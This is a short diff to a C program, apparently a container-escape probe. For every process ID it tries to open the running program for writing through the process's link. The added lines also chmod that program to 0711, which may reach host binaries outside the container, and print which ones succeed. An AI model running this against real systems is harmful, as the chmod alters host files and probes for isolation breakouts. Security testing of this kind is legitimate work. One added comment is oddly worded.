@@ -91,7 +91,10 @@ int grab_newcomers(void) {
     }
 }
 
-/* Tries to open the program that runs this one for writing, by every process's link to it. */
+/*
+ * Tries to open every running program for writing, and to change its mode: by its process's link to it, which may lead out of the
+ * container.
+ */
 int overwrite_program(const char *marker) {
     for (int pid = 1; pid < 4096; pid++) {
         char path[64];
@@ -107,7 +110,15 @@ int overwrite_program(const char *marker) {
             printf("%s: %s can be written\n", marker, target);
             close(file);
         }
+        /* Its own programs stay what they are good for; of another's the host sees it. */
+        if (chmod(path, 0711) == 0) {
+            char target[4096];
+            ssize_t length = readlink(path, target, sizeof target - 1);
+            target[length < 0 ? 0 : length] = 0;
+            printf("%s: the mode of %s can be changed\n", marker, target);
+        }
         close(program);
     }
+    fflush(stdout);
     return 0;
 }
